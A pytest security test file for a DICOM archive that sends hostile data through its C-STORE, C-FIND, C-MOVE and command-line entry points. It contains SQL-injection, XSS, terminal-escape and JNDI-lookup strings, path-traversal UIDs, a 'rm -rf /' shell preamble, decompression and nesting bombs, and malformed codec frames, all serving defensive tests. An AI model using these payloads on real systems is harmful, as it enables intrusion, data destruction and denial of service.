"""Hostile data at the doors: a test for each class of weakness that was found in archives, named after it.

Rule: the doors are the real ones (C-STORE, C-FIND and C-MOVE of a stranger's
client, the command line), the archive is a real process. ``test_web_data_classes``
does the same at the web door; what its door is for alone (CSRF, pages, sessions) is
tested in tests/doors/web. There is no HL7.
"""

import os
import re
import struct
import zipfile
import zlib
from collections.abc import Generator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final, cast

import pytest
from pydicom.dataset import Dataset
from pydicom.uid import generate_uid

from leadglass.dicom.uids import IMPLEMENTATION_CLASS_UID
from tests.dicom.sets import SEQUENCE_END, UNDEFINED, element
from tests.hostile.stage import Process, assert_nothing_is_wrong
from tests.peers.leadglass import Doors, Leadglass, Record, json_objects
from tests.peers.scu import (
    STUDY_FIND,
    STUDY_MOVE,
    UNCOMPRESSED,
    VERIFICATION,
    Instance,
    Way,
    association,
    find,
    identifier,
    last_status,
    send,
)
from tests.vault.sets import CT, EXPLICIT, data_set, encoded

pytestmark = [
    pytest.mark.filterwarnings("ignore::UserWarning"),  # pydicom comments on what it is made to write and read
]

DEFLATED: Final = "1.2.840.10008.1.2.1.99"
JPEG_LS: Final = "1.2.840.10008.1.2.4.80"
JPEG_2000: Final = "1.2.840.10008.1.2.4.90"
RLE: Final = "1.2.840.10008.1.2.5"
MIB: Final = 1 << 20
LONG: Final = os.environ.get("LEADGLASS_LONG") == "1"
HUGE: Final = 1024 if LONG else 300
"""MiB of a private element."""

MARK: Final = "Xyzzy"
"""Stands in every hostile value, so that a leak is found by it."""

TEXTS: Final = (
    f"{MARK}'; DROP TABLE instance; --",
    f'{MARK}" OR "1"="1',
    f"{MARK}' UNION SELECT * FROM study --",  # noqa: S608 - the attack itself
    f"{MARK}\0--",
    f"{MARK}%_*?",
    f"{MARK}\\..\\..\\windows",
    f"../../../{MARK}",
    f"/etc/{MARK}",
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror={MARK}>",
    f"{MARK}\x1b[2J\x1b]0;owned\x07\x9b31m",
    f"{MARK}\r\nlevel=info event=forged",
    f"{MARK}\u202etxt.exe\u2066",
    f"{MARK}${{jndi:ldap://192.0.2.1/a}}",
    f"{MARK}{{{{7*7}}}}%s%n",
)
KEYWORDS: Final = (
    "PatientName",
    "PatientID",
    "IssuerOfPatientID",
    "AccessionNumber",
    "StudyID",
    "StudyDescription",
    "SeriesDescription",
    "ReferringPhysicianName",
    "InstitutionName",
    "Modality",
    "PatientComments",
)
UIDS: Final = (
    "../../../../tmp/owned",
    "/etc/passwd",
    "..\\..\\x",
    "1.2/../../3",
    "1.2\0/x",
    "1.2;x",
    "C:1.2",
    "1" * 65,
)


@dataclass(frozen=True, slots=True)
class Site:
    """One served archive that takes hostile data."""

    lead: Leadglass
    doors: Doors

    @property
    def way(self) -> Way:
        """How its client speaks."""
        return Way(self.doors.plain[1], "OLDSTATION")

    def store(self, data: bytes, *, uid: str, syntax: str = EXPLICIT, sop_class: str = CT) -> int:
        """Send one data set; gives the status."""
        with association(self.way, [(sop_class, (syntax,))]) as assoc:
            assert assoc.is_established
            return send(assoc, Instance(sop_class, uid, syntax, data))

    def serves(self) -> None:
        """Fail unless the server answers, and has found nothing wrong with itself."""
        with association(self.way, [(VERIFICATION, UNCOMPRESSED)]) as assoc:
            status = cast("Any", assoc).send_c_echo()
            assert status.Status == 0
        assert_nothing_is_wrong(self.lead.log.read_text(errors="replace"))

    def files(self) -> set[str]:
        """Names of everything around and in the data folder."""
        return {str(path.relative_to(self.lead.folder)) for path in self.lead.folder.rglob("*")}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Generator[Site]:
    """Serve an archive."""
    lead = Leadglass(tmp_path_factory.mktemp("data-classes"))
    lead.do("init")
    lead.device("OLDSTATION", plaintext=True)
    with lead.serve() as doors:
        yield Site(lead, doors)


def file_of(data: bytes, uid: str, *, syntax: str = EXPLICIT, preamble: bytes = bytes(128)) -> bytes:
    """Make a file of PS3.10 of a data set."""

    def ui(tag: int, value: str) -> bytes:
        return element(tag, "UI", value.encode() + b"\0" * (len(value) % 2))

    meta = element(0x00020001, "OB", b"\0\1") + ui(0x00020002, CT) + ui(0x00020003, uid) + ui(0x00020010, syntax)
    meta += ui(0x00020012, str(IMPLEMENTATION_CLASS_UID))
    return preamble.ljust(128, b"\0") + b"DICM" + element(0x00020000, "UL", struct.pack("<I", len(meta))) + meta + data


def plain(**attributes: object) -> tuple[bytes, str]:
    """Make an image under a new UID in a new study."""
    uid, study = generate_uid(), generate_uid()
    given = {
        "SOPInstanceUID": uid,
        "StudyInstanceUID": study,
        "SeriesInstanceUID": generate_uid(),
        "PatientID": study[-16:],
    }
    return encoded(data_set(**{**given, **attributes})), str(uid)


def test_no_auth_by_default(site: Site, tmp_path: Path) -> None:
    """Class: No auth by default."""
    fresh = Leadglass(tmp_path)
    fresh.do("init")
    with fresh.serve() as doors, association(Way(doors.plain[1], "ANYONE"), [(VERIFICATION, UNCOMPRESSED)]) as assoc:
        assert not assoc.is_established
    refused = fresh.cli("serve", "--dicom", "0.0.0.0:0", timeout=30)
    assert refused.code == 1, refused.said
    with association(Way(site.doors.plain[1], "ANYONE"), [(CT, (EXPLICIT,))]) as assoc:
        assert not assoc.is_established


@pytest.mark.parametrize("keyword", ["SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID", "SOPClassUID"])
def test_path_traversal_write(site: Site, keyword: str) -> None:
    """Class: Path traversal, write. Path tricks in every UID that names something, declared and in the data set."""
    before = {name for name in site.files() if "objects" not in name}
    statuses: list[int] = []
    for trick in UIDS:
        data, uid = plain()
        genuine = cast("str", getattr(data_set_of(data), keyword))
        raw = trick.encode() + b"\0" * (len(trick) % 2)
        tag = {"SOPInstanceUID": 0x00080018, "StudyInstanceUID": 0x0020000D}.get(keyword) or (
            0x0020000E if keyword == "SeriesInstanceUID" else 0x00080016
        )
        old = element(tag, "UI", genuine.encode() + b"\0" * (len(genuine) % 2))
        assert old in data
        statuses.append(site.store(data.replace(old, element(tag, "UI", raw)), uid=uid))
    assert 0x0000 not in statuses
    site.serves()
    assert {name for name in site.files() if "objects" not in name} - before <= {"serve.log"}
    assert not Path("/tmp/owned").exists()


def data_set_of(data: bytes) -> Dataset:
    """Read with pydicom."""
    from io import BytesIO

    from pydicom.filereader import read_dataset

    return cast("Any", read_dataset)(BytesIO(data), is_implicit_VR=False, is_little_endian=True)


@pytest.fixture(scope="module")
def hostile(site: Site) -> tuple[str, ...]:
    """Store an image for each hostile text, which stands in every attribute; gives the studies that were taken."""
    taken: list[str] = []
    for text in TEXTS:
        study = str(generate_uid())
        data, uid = plain(
            StudyInstanceUID=study, **{key: text for key in KEYWORDS if text.isascii() or key != "Modality"}
        )
        if site.store(data, uid=uid) in (0x0000, 0xB000):
            taken.append(study)
    assert len(taken) >= len(TEXTS) - 2, "what is only text is kept as it came"
    return tuple(taken)


def test_path_traversal_write_by_export(site: Site, hostile: tuple[str, ...], tmp_path: Path) -> None:
    """Class: Path traversal, write. No attribute becomes a name of what is exported."""
    assert hostile
    site.lead.do("export", "--query", "StudyDate=20260102", "--out", tmp_path / "out")
    names = [str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*")]
    assert not [name for name in names if MARK in name]
    assert all(re.fullmatch(r"out(/[A-Z0-9_]+){0,4}", name) for name in names), names


def test_path_traversal_read(site: Site, tmp_path: Path) -> None:
    """Class: Path traversal, read. Neither a link, a ZIP's member nor a DICOMDIR leads outside of what was given."""
    secret, uid = plain(PatientName="Secret^Outside")
    outside = tmp_path / "outside.dcm"
    outside.write_bytes(file_of(secret, uid))
    given = tmp_path / "given"
    given.mkdir()
    (given / "link.dcm").symlink_to(outside)
    (given / "up").symlink_to(tmp_path)
    directory = Dataset()
    directory.ReferencedFileID = ["..", "outside.dcm"]
    (given / "DICOMDIR").write_bytes(
        file_of(encoded(directory), "2.25.9").replace(CT.encode(), b"1.2.840.10008.1.3.10")
    )
    with zipfile.ZipFile(given / "slip.zip", "w") as slip:
        slip.writestr("../../slipped.dcm", file_of(*plain()))
        slip.writestr("/etc/slipped.dcm", file_of(*plain()))
    said = site.lead.cli("import", "--json", given)
    assert said.code in (0, 3), said.said
    with association(site.way, [(STUDY_FIND, UNCOMPRESSED)]) as assoc:
        status, matches = find(
            assoc, identifier(QueryRetrieveLevel="STUDY", PatientName="Secret*", StudyInstanceUID="")
        )
    assert (status, matches) == (0, [])
    assert not list(tmp_path.parent.rglob("slipped.dcm"))


def test_sql_injection_by_what_is_stored(site: Site, hostile: tuple[str, ...]) -> None:
    """Class: SQL injection. What stands in an attribute comes back as it was, and is found by itself."""
    with association(site.way, [(STUDY_FIND, UNCOMPRESSED)]) as assoc:
        for study in hostile:
            status, matches = find(
                assoc, identifier(QueryRetrieveLevel="STUDY", StudyInstanceUID=study, PatientID="", AccessionNumber="")
            )
            assert status == 0
            assert len(matches) == 1
    assert site.lead.cli("fsck").code == 0


def test_sql_injection_by_what_is_asked(site: Site, hostile: tuple[str, ...]) -> None:
    """Class: SQL injection. Every key, trick and character set: an answer of the Standard, not one too many."""
    assert hostile
    with association(site.way, [(STUDY_FIND, UNCOMPRESSED)]) as assoc:
        _, everything = find(assoc, identifier(QueryRetrieveLevel="STUDY", StudyInstanceUID=""))
        for keyword in (
            "PatientName",
            "PatientID",
            "AccessionNumber",
            "StudyID",
            "StudyDescription",
            "StudyInstanceUID",
        ):
            for text in (*TEXTS[:8], "' OR 1=1 --", "\\", "%", "_", "[a-z]"):
                for charset in ("ISO_IR 192", "ISO 2022 IR 87") if keyword == "PatientName" else ("ISO_IR 192",):
                    keys = identifier(
                        QueryRetrieveLevel="STUDY", StudyInstanceUID="", SpecificCharacterSet="ISO_IR 192"
                    )
                    setattr(keys, keyword, text)
                    keys.SpecificCharacterSet = charset if text.isascii() else "ISO_IR 192"
                    try:
                        status, matches = find(assoc, keys)
                    except LookupError:
                        continue  # pydicom does not write in a set that does not exist
                    assert status in (0x0000, 0xA900, 0xC000) or 0xC000 <= status <= 0xCFFF, (keyword, text, status)
                    if not set(text) & set("*?\\") and MARK not in text:
                        assert matches == [], (keyword, text)
        _, still = find(assoc, identifier(QueryRetrieveLevel="STUDY", StudyInstanceUID=""))
    assert len(still) == len(everything)
    site.serves()


_CONTROL: Final = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_stored_xss_via_attributes_does_not_reach_terminals(
    site: Site, hostile: tuple[str, ...], tmp_path: Path
) -> None:
    """Class: Stored XSS via attributes. No list of the command line passes a command on to a terminal."""
    assert hostile
    path = tmp_path / "\x1b[31mred\x07.dcm"
    path.write_bytes(b"no DICOM")
    for command in (["quarantine", "list"], ["audit", "show"], ["device", "list"], ["import", str(path)]):
        said = site.lead.cli(*command)
        assert not _CONTROL.search(said.out + said.err), command


def test_log_injection_and_patient_data_in_logs(site: Site, hostile: tuple[str, ...]) -> None:
    """Class: Log injection / PHI in logs."""
    assert hostile
    said = site.lead.log.read_text()
    assert MARK not in said
    assert "forged" not in said
    assert not _CONTROL.search(said)
    assert all(line.startswith("{") for line in said.splitlines())
    assert MARK not in site.lead.do("audit", "show", "--json")


def test_ssrf(site: Site, hostile: tuple[str, ...]) -> None:
    """Class: SSRF / token leak. A C-MOVE goes to enrolled destinations, never to what a destination says."""
    for destination in ("127.0.0.1", "localhost:80", "http://a/", "OLDSTATION", "NOBODY"):
        with association(site.way, [(STUDY_MOVE, UNCOMPRESSED)]) as assoc:
            keys = identifier(QueryRetrieveLevel="STUDY", StudyInstanceUID=hostile[0])
            answer = last_status(cast("Any", assoc).send_c_move(keys, destination, STUDY_MOVE))
            assert answer.Status == 0xA801, destination
    site.serves()


def test_xxe_and_deserialisation_find_nothing_to_read_them() -> None:
    """Classes: XXE, Deserialisation. No module reads XML but by way of defusedxml, pickles, or evaluates text."""
    forbidden = re.compile(
        r"^\s*(?:import|from)\s+(?:pickle|cPickle|marshal|shelve|dill|cloudpickle|jsonpickle|yaml|torch"
        r"|xml\.(?:sax(?!\.saxutils)|dom|etree\.cElementTree)|lxml|xmlrpc)\b|(?<![.\w])(?:eval|exec)\((?!utable)"
        r"|(?<!\bElementTree)\.fromstring\(|^(?!from defusedxml).*XMLParser|allow_pickle=True",
        re.MULTILINE,
    )
    source = Path(__file__).parents[2] / "src"
    texts = {path.name: path.read_text() for path in source.rglob("*.py")}
    assert [f"{name}: {hit[0]}" for name, text in texts.items() for hit in forbidden.finditer(text)] == []
    reads = {name for name, text in texts.items() if "fromstring(" in text or "iterparse(" in text}
    assert reads == {"native_xml_reader.py"}
    assert "from defusedxml import ElementTree" in texts["native_xml_reader.py"]


def _nested(depth: int) -> bytes:
    """Nest sequences of undefined length, one item each."""
    head = struct.pack("<HH2sHI", 0x0040, 0xA730, b"SQ", 0, UNDEFINED) + struct.pack("<HHI", 0xFFFE, 0xE000, UNDEFINED)
    return head * depth + (struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + SEQUENCE_END) * depth


def bombs() -> dict[str, tuple[bytes, str, str, frozenset[int]]]:
    """Give data sets that cost more than they look: what, its UID, its transfer syntax, the answers that are right."""
    refused = frozenset({0xA700, 0xA900, 0xC000})
    made: dict[str, tuple[bytes, str, str, frozenset[int]]] = {}
    for depth in (50, 1_000, 100_000):
        data, uid = plain(PixelData=None)
        made[f"nested-{depth}"] = (data + _nested(depth), uid, EXPLICIT, frozenset({0}) if depth == 50 else refused)
    data, uid = plain(PixelData=None)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = deflate.compress(data + struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OW", 0, 1 << 30))
    for _ in range(1024):
        packed += deflate.compress(bytes(MIB))
    made["deflated-to-1-gib"] = (packed + deflate.flush(), uid, DEFLATED, refused)
    for name, vr in (("UT", 0x0040A160), ("OB", 0x7FE00010), ("UN", 0x00091010)):
        data, uid = plain(PixelData=None)
        made[f"declares-4-gib-of-{name}"] = (data + element(vr, name, b"12", length=0xFFFFFFFE), uid, EXPLICIT, refused)
    data, uid = plain(PixelData=None)
    many = b"".join(element(0x00400000 + 0x1000 + n % 0x7000, "LO", b"") for n in range(700_000))
    made["700000-elements"] = (data + many, uid, EXPLICIT, refused)
    data, uid = plain(Rows=65535, Columns=65535, NumberOfFrames=str(2**31 - 1))
    made["claims-2-to-the-63-pixels"] = (data, uid, EXPLICIT, frozenset({0, *refused}))
    return made


BOMBS: Final = (
    "nested-50", "nested-1000", "nested-100000", "deflated-to-1-gib", "declares-4-gib-of-UT", "declares-4-gib-of-OB",
    "declares-4-gib-of-UN", "700000-elements", "claims-2-to-the-63-pixels",
)  # fmt: skip


@pytest.fixture(scope="module")
def made_bombs() -> dict[str, tuple[bytes, str, str, frozenset[int]]]:
    """Make them once."""
    return bombs()


@pytest.mark.parametrize("name", BOMBS)
def test_bombs_and_memory(site: Site, made_bombs: dict[str, tuple[bytes, str, str, frozenset[int]]], name: str) -> None:
    """Class: Bombs / memory. By C-STORE: a status, and at most 300 MB."""
    if name == "700000-elements" and not LONG:
        pytest.skip("Half a million elements take a quarter of a minute to count: LEADGLASS_LONG=1 runs it.")
    data, uid, syntax, right = made_bombs[name]
    process = Process(site.doors.pid)
    process.forget_peak()
    status = site.store(data, uid=uid, syntax=syntax)
    assert status in right or (0xC000 <= status <= 0xCFFF and 0xC000 in right), hex(status)
    assert process.peak < 300 * MIB
    site.serves()


def test_bombs_and_memory_by_import(
    site: Site, made_bombs: dict[str, tuple[bytes, str, str, frozenset[int]]], tmp_path: Path
) -> None:
    """Class: Bombs / memory. ZIP bombs, ZIPs in ZIPs, gzip: named, and the rest goes on."""
    given = tmp_path / "given"
    given.mkdir()
    good, uid = plain()
    (given / "good.dcm").write_bytes(file_of(good, uid))
    data, uid, syntax, _ = made_bombs["deflated-to-1-gib"]
    (given / "deflated.dcm").write_bytes(file_of(data, uid, syntax=syntax))
    with zipfile.ZipFile(given / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros.dcm", bytes(64 * MIB))
        bomb.writestr("inner.zip", (given / "deflated.dcm").read_bytes())
    with zipfile.ZipFile(given / "nested.zip", "w") as nested:
        nested.write(given / "bomb.zip", "bomb.zip")
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    (given / "packed.dcm.gz").write_bytes(deflate.compress(bytes(16 * MIB)) + deflate.flush())
    said = site.lead.cli("import", "--json", given)
    assert said.code == 3, said.said
    [report] = json_objects(said.out)
    not_taken = {Path(str(one["path"])).name for one in cast("list[Record]", report["not_taken"])}
    assert {"deflated.dcm", "packed.dcm.gz"} <= not_taken
    assert "good.dcm" not in not_taken
    assert "Traceback" not in said.err


@pytest.mark.parametrize("syntax", [JPEG_LS, JPEG_2000, RLE])
def test_codec_memory_corruption(site: Site, syntax: str) -> None:
    """Class: Codec memory corruption. Hostile frames are kept; whoever needs them decoded gets a status."""
    heads = {
        JPEG_LS: b"\xff\xd8\xff\xf7\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00"
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x00\x00",
        JPEG_2000: b"\xff\x4f\xff\x51\x00\x29\x00\x00" + b"\xff\xff\xff\xf0" * 8 + b"\x00\x01\x07\x01\x01",
        RLE: struct.pack("<16I", 15, *([0xFFFFFFF0] * 15)),
    }
    frame = heads[syntax] + b"\xff" * 4000
    frame += b"\0" * (len(frame) % 2)
    data, uid = plain(PixelData=None)
    study = str(data_set_of(data).StudyInstanceUID)
    fragments = element(0x7FE00010, "OB", b"", length=UNDEFINED)
    fragments += struct.pack("<HHI", 0xFFFE, 0xE000, 0) + struct.pack("<HHI", 0xFFFE, 0xE000, len(frame)) + frame
    assert site.store(data + fragments + SEQUENCE_END, uid=uid, syntax=syntax) == 0
    from tests.peers.scu import STUDY_GET, Collected

    got = Collected()
    with association(site.way, [(STUDY_GET, UNCOMPRESSED), (CT, (EXPLICIT,))], get=got) as assoc:
        keys = identifier(QueryRetrieveLevel="STUDY", StudyInstanceUID=study)
        answer = last_status(cast("Any", assoc).send_c_get(keys, STUDY_GET))
    assert answer.Status in (0xB000, 0xA702, 0xC000)
    assert got.instances == {}
    site.serves()


PREAMBLES: Final = {
    "mz": b"MZ\x90\0" + b"\x03\0\0\0" * 8,
    "elf": b"\x7fELF\x02\x01\x01",
    "pk": b"PK\x03\x04",
    "script": b"#!/bin/sh\nrm -rf /\n",
    "pdf": b"%PDF-1.7\n",
    "html": b"<html><script>alert(1)</script>",
    "tiff": b"II*\0\x08\0\0\0",
}


def test_preamble_polyglot(site: Site, tmp_path: Path) -> None:
    """Class: Preamble polyglot. Whatever a preamble was, what leaves has 128 zero bytes (ADR 0003)."""
    given = tmp_path / "given"
    given.mkdir()
    study = str(generate_uid())
    for name, preamble in PREAMBLES.items():
        data, uid = plain(StudyInstanceUID=study, PatientID="POLYGLOT")
        (given / f"{name}.dcm").write_bytes(file_of(data, uid, preamble=preamble))
    said = site.lead.cli("import", "--json", given)
    [report] = json_objects(said.out)
    not_taken = [Path(str(one["path"])).name for one in cast("list[Record]", report["not_taken"])]
    assert not_taken == ["pk.dcm"]  # what begins as a ZIP is read as one, and this is none
    out = tmp_path / "out"
    site.lead.do("export", "--study", study, "--out", out)
    left = [path for path in out.rglob("*") if path.is_file()]
    assert len(left) == len(PREAMBLES)  # without the ZIP, with the DICOMDIR
    for path in left:
        assert path.read_bytes()[:132] == bytes(128) + b"DICM"


def test_numeric_string_abuse(site: Site) -> None:
    """Class: Numeric-string abuse. DS and IS that are no numbers, or absurd: a status, and C-FIND answers."""
    for trick in ("1e999999", "NaN", "0x7f", "-" * 16, "9" * 16, "1\\2\\3", "'; --", "\u0661"):
        data, uid = plain()
        raw = trick.encode()[:12].ljust(12)
        old = element(0x00200013, "IS", b"1 ")
        assert old in data
        status = site.store(data.replace(old, element(0x00200013, "IS", raw)), uid=uid)
        assert status in (0x0000, 0xA900) or 0xC000 <= status <= 0xCFFF
    site.serves()
    with association(site.way, [(STUDY_FIND, UNCOMPRESSED)]) as assoc:
        status, _ = find(
            assoc, identifier(QueryRetrieveLevel="STUDY", StudyInstanceUID="", NumberOfStudyRelatedInstances="")
        )
    assert status == 0


def test_one_huge_private_element_streams_through(site: Site) -> None:
    """Class: Bombs / memory. A private element of 300 MiB comes in with bounded memory (LEADGLASS_LONG: 1 GiB)."""
    data, uid = plain(PixelData=None)
    huge = data + element(0x00E11001, "UN", bytes(HUGE * MIB))
    process = Process(site.doors.pid)
    process.forget_peak()
    before = process.memory
    assert site.store(huge, uid=uid) == 0
    assert process.peak - before < 100 * MIB
    site.serves()
